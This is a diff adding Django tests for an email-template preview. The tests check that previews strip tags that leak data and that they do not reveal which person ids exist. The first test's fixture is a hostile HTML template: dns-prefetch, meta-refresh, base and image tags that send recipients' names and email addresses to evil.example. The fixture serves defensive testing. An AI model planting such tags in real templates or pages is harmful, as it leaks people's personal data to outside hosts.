@@ -150,3 +150,38 @@ class TestSenderPages:
         text = world.client("analyst").get(url).content.decode()
         assert "_domainkey.news.acme.example" in text
         assert "Check DNS now" not in text
+
+
+@pytest.mark.django_db
+class TestPreviewLeaks:
+    def test_the_preview_document_loads_nothing_from_elsewhere(self, world):
+        saved = template(world, source=(
+            '<html><head><link rel="dns-prefetch" href="//{{ person.first_name }}.evil.example">'
+            '<meta http-equiv="refresh" content="0;url=https://evil.example/?{{ person.email }}">'
+            '<base href="https://evil.example/"></head>'
+            '<body><img src="https://evil.example/p?e={{ person.email | url_encode }}">'
+            "</body></html>"))
+        response = world.client("user").get(
+            f"/app/templates/{saved.pk}/preview/html?person={world.person.pk}")
+        body = response.content.decode()
+        assert "<link" not in body
+        assert "<meta" not in body
+        assert "<base" not in body
+        csp = response["Content-Security-Policy"]
+        assert "img-src data:;" in csp
+        assert "https:" not in csp
+        assert response["X-DNS-Prefetch-Control"] == "off"
+
+    def test_without_people_read_a_preview_does_not_tell_which_ids_exist(self, world):
+        saved = template(world)
+        client = world.client("viewer")
+        base = f"/app/templates/{saved.pk}/preview/?person="
+        own = client.get(base + str(world.person.pk))
+        other = client.get(base + str(world.other_person.pk))
+        missing = client.get(base + "999999")
+        assert own.status_code == other.status_code == missing.status_code == 200
+
+        def shown(response):
+            return response.content.decode().split('id="preview-text">')[1].split("</pre>")[0]
+
+        assert shown(own) == shown(other) == shown(missing) == "Hello ()\n"
